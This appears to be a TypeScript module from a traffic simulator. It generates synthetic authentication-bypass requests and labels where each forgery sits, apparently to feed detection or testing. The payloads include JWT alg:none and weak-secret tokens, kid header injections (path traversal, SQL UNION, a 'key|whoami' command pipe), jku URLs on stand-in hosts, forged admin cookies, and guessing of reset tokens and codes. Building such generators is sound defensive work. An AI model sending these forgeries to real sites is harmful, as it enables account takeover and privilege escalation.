import { newCall, type Call, type JsonObject, type Pair } from '../call.ts';
import { refreshToken, useResetToken, viewOwnProfile } from '../calls/account-calls.ts';
import { administer, exportReport } from '../calls/machine-calls.ts';
import { listThings, viewThing } from '../calls/shop-calls.ts';
import { sessionCookieValue } from '../clients/cast.ts';
import type { Client } from '../clients/client.ts';
import { drawApiKey, drawClaims, drawJwtHeader, expiredToken, part, signJwt } from '../clients/tokens.ts';
import { token } from '../noise.ts';
import { fixedPath, idAt, somePerson, type Scene } from '../scene.ts';

/** One try: the request, and where in it the forgery stands. */
type Forge = (scene: Scene, client: Client, at: number) => Call;
/** `works` is the share of tries a site falls for. */
export type Forgery = { name: string; forge: Forge; works: number };

export const FORGERIES: readonly Forgery[] = [
  {
    name: 'jwt-alg-none',
    works: 0.03,
    forge: withJwt((scene) => unsigned(scene, scene.rng.pick(['none', 'None', 'NONE', 'nOnE'])))
  },
  { name: 'jwt-changed-claims', works: 0.02, forge: withJwt(changedClaims) },
  { name: 'jwt-expired', works: 0.05, forge: withJwt((scene) => expiredToken(scene, somePerson(scene).userName)) },
  { name: 'jwt-key-id', works: 0.02, forge: withJwt(keyIdTrick) },
  { name: 'jwt-other-algorithm', works: 0.02, forge: withJwt(otherAlgorithm) },
  {
    name: 'jwt-guessed-secret',
    works: 0.02,
    forge: withJwt((scene) =>
      signJwt(
        scene.rng.pick(['secret', 'changeme', 'password', 'jwt', 'key']),
        drawJwtHeader(scene.rng, scene.site),
        adminClaims(scene)
      )
    )
  },
  { name: 'session-guessing', works: 0.01, forge: guessedSession },
  { name: 'forged-cookie', works: 0.08, forge: forgedCookie },
  { name: 'reset-token-guessing', works: 0.01, forge: guessedResetToken },
  { name: 'one-time-code-guessing', works: 0.01, forge: guessedCode },
  {
    name: 'admin-without-rights',
    works: 0.04,
    forge: (scene, _, at) =>
      scene.rng.chance(0.8) ? administer(scene, idAt(scene.site, 'user', at)) : exportReport(scene)
  },
  { name: 'api-key-guessing', works: 0.005, forge: guessedKey },
  { name: 'refresh-token-guessing', works: 0.02, forge: (scene) => refreshToken(scene) }
];

function target(scene: Scene): Call {
  const { rng } = scene;
  return rng.weighted<(scene: Scene) => Call>([
    [viewOwnProfile, 4],
    [(at) => administer(at, idAt(at.site, 'user', rng.int(0, 500))), 3],
    [(at) => listThings(at, rng.pick(['order', 'user'])), 3],
    [(at) => viewThing(at, 'order'), 3]
  ])(scene);
}

function withJwt(write: (scene: Scene) => string): Forge {
  return (scene) => ({
    ...withHeader(target(scene), ['authorization', `Bearer ${write(scene)}`]),
    attackPlace: 'header.authorization'
  });
}

function withHeader(call: Call, header: Pair): Call {
  return { ...call, headers: [...call.headers, header] };
}

function adminClaims(scene: Scene): JsonObject {
  const { rng } = scene;
  const subject = rng.pick(['admin', 'root', '1', somePerson(scene).userName]);
  return {
    ...drawClaims(rng, scene.site, subject, scene.nowMs()),
    role: rng.pick(['admin', 'superuser', 'staff', 'root']),
    ...(rng.chance(0.3) ? { is_admin: true } : {})
  };
}

function unsigned(scene: Scene, algorithm: string): string {
  return `${part({ alg: algorithm, typ: 'JWT' })}.${part(adminClaims(scene))}.${scene.rng.chance(0.2) ? token(scene.rng, 43) : ''}`;
}

/** The claims are new, the signature is the old one's. */
function changedClaims(scene: Scene): string {
  const header = drawJwtHeader(scene.rng, scene.site);
  const honest = signJwt(
    scene.site.secret,
    header,
    drawClaims(scene.rng, scene.site, somePerson(scene).userName, scene.nowMs())
  );
  return `${part(header)}.${part(adminClaims(scene))}.${honest.split('.')[2]!}`;
}

function keyIdTrick(scene: Scene): string {
  const { rng } = scene;
  const kid = rng.pick([
    `${'../'.repeat(rng.int(2, 8))}dev/null`,
    `/proc/sys/kernel/${rng.pick(['randomize_va_space', 'ostype'])}`,
    `${base(rng.int(1, 9))}' UNION SELECT '${token(rng, 6)}`,
    `http://${token(rng, 6).toLowerCase()}.example/key`,
    `key|${rng.pick(['id', 'whoami'])}`
  ]);
  return signJwt('', { alg: 'HS256', typ: 'JWT', kid }, adminClaims(scene));
}

function otherAlgorithm(scene: Scene): string {
  const { rng } = scene;
  const jku = rng.chance(0.5)
    ? { jku: `https://${token(rng, 8).toLowerCase()}.example/jwks.json` }
    : { jwk: { kty: 'RSA', e: 'AQAB', n: token(rng, 60) } };
  return signJwt(
    token(rng, 8),
    { alg: rng.pick(['HS384', 'RS256', 'HS512', 'ES256']), typ: 'JWT', ...jku },
    adminClaims(scene)
  );
}

function guessedSession(scene: Scene, client: Client): Call {
  const { rng, site } = scene;
  const value = rng.chance(0.6)
    ? sessionCookieValue(scene)
    : rng.pick([
        String(rng.int(1_000, 99_999)),
        rng.hex(32),
        Buffer.from(`user:${rng.int(1, 999)}`).toString('base64')
      ]);
  return withCookie(target(scene), client, [site.sessionCookie, value]);
}

function forgedCookie(scene: Scene, client: Client): Call {
  const { rng } = scene;
  const forged: Pair = rng.pick([
    ['admin', rng.pick(['1', 'true', 'yes'])],
    ['role', rng.pick(['admin', 'administrator', 'staff'])],
    [
      'user',
      Buffer.from(JSON.stringify({ id: 1, role: 'admin', name: somePerson(scene).userName })).toString('base64')
    ],
    ['auth', `${rng.int(1, 500)}|admin|${rng.hex(16)}`],
    ['is_admin', '1'],
    ['uid', String(rng.int(1, 100))]
  ] as Pair[]);
  return withCookie(target(scene), client, forged);
}

function withCookie(call: Call, client: Client, forged: Pair): Call {
  const jar = [...client.cookies.filter(([name]) => name !== forged[0]), forged];
  return {
    ...withHeader(call, ['cookie', jar.map(([name, value]) => `${name}=${value}`).join('; ')]),
    attackPlace: `cookie.${forged[0]}`
  };
}

function guessedResetToken(scene: Scene, _: Client, at: number): Call {
  const { rng, site } = scene;
  const guess = rng.pick([
    String(100_000 + at),
    rng.hex(32),
    base(at),
    token(rng, 40),
    Buffer.from(`${somePerson(scene).email}:${Math.floor(scene.nowMs() / 1_000)}`).toString('base64')
  ]);
  return { ...useResetToken(scene, guess), attackPlace: `query.${site.parameters.token}` };
}

function guessedCode(scene: Scene, _: Client, at: number): Call {
  const code = String((at * 7_919) % 1_000_000).padStart(6, '0');
  const { site } = scene;
  return newCall('login', 'POST', `${fixedPath(scene, 'login')}/${scene.rng.pick(['verify', '2fa', 'otp'])}`, {
    body: { kind: 'json', value: { [site.parameters.token]: code } },
    attackPlace: `json.${site.parameters.token}`
  });
}

/** An unknown key names nobody: the client stays its address. */
function guessedKey(scene: Scene): Call {
  const key = drawApiKey(scene.rng);
  const guess: Pair = key.kind === 'api-key' ? [key.header, key.value] : ['x-api-key', ''];
  return { ...withHeader(target(scene), guess), attackPlace: `header.${guess[0]}` };
}

function base(at: number): string {
  return at.toString(36);
}
